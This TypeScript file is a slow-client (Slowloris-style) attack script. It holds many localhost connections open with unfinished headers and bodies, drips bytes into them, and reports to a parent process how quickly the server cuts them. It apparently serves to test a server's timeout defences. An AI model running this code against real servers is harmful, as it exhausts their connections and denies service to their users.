/**
 * Slow clients: `node slow-attack.ts CONNECTIONS SECONDS` with ATTACK_PORT. Half of them never end their headers, half never end their body, each adding a byte
 * every two seconds. When all were cut or the seconds are over, its parent is sent when each was cut, in milliseconds, and how many are still held.
 */
import net from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const [connections, seconds] = process.argv.slice(2).map(Number) as [number, number]
const port = Number(process.env['ATTACK_PORT'])

export interface AttackFigures {
  /** Milliseconds from the connection to its end, of those that were cut; and how many were not. */
  headers: { cut: number[]; held: number; refused: number }
  body: { cut: number[]; held: number; refused: number }
}
const figures: AttackFigures = { headers: { cut: [], held: 0, refused: 0 }, body: { cut: [], held: 0, refused: 0 } }

const heads = {
  headers: 'GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ',
  body: 'POST /api/Users/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
}

function attack(kind: keyof AttackFigures) {
  const mine = figures[kind]
  const socket = net.connect(port, '127.0.0.1')
  mine.held += 1
  let began = 0
  let isOpen = false
  socket.once('connect', () => {
    isOpen = true
    began = performance.now()
    socket.write(heads[kind])
  })
  // Every so often one byte, as a slow line would send.
  const drip = setInterval(() => isOpen && socket.writable && socket.write('a'), 2_000)
  socket.on('error', () => {})
  socket.on('data', () => {})
  socket.once('close', () => {
    clearInterval(drip)
    mine.held -= 1
    if (isOpen) mine.cut.push(performance.now() - began)
    else mine.refused += 1
  })
}

for (let begun = 0; begun < connections; begun += 1) {
  attack(begun % 2 === 0 ? 'headers' : 'body')
  if (begun % 100 === 99) await pause(20)
}
const end = performance.now() + seconds * 1000
while (performance.now() < end && figures.headers.held + figures.body.held > 0) await pause(50)
process.send?.(figures, () => process.exit(0))
